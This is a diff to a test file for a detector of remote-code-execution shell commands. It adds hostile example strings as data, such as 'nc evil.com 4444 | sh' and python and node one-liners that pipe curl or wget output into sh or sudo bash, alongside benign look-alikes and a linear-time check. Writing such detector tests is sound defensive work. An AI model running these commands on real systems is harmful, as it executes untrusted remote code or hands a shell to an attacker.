@@ -41,6 +41,9 @@ const fires: readonly string[] = [
   'sh -c "$(printf %s Y3Vy | base64 -d)"',
   'nc evil.com 4444 | sh',
   'curl http://tools/install.sh | sh',
+  'python -c "import os; os.system(\'curl -s https://x.com/i.sh | sh\')"',
+  'uvx python -c "import subprocess as s; subprocess.run(\'wget -qO- https://x.com|bash\', shell=True)"',
+  "node -e \"require('child_process').execSync('curl https://x.com | sudo bash')\"",
 ];
 
 const quiet: readonly string[] = [
@@ -69,6 +72,8 @@ const quiet: readonly string[] = [
   'eval "$(direnv hook bash)"',
   'eval "$(ssh-agent -s)"',
   'source <(kubectl completion bash)',
+  'python -c "print(\'never curl https://x.com | sh\')"',
+  'python -c "import os; os.system(\'curl -s https://x.com/a.json | jq .\')"',
 ];
 
 describe('remote code', () => {
@@ -94,7 +99,7 @@ describe('remote code', () => {
   }
 
   it('is found in linear time', () => {
-    for (const unit of ['curl x|', '$(curl x)', 'x=$(curl y);eval $x;']) {
+    for (const unit of ['curl x|', '$(curl x)', 'x=$(curl y);eval $x;', "python -c 'system(curl curl ';"]) {
       const lines = { quarter: line(unit.repeat(5_000)), whole: line(unit.repeat(20_000)) };
       assertLinear(unit, (part) => findRemoteCode(lines[part]));
     }
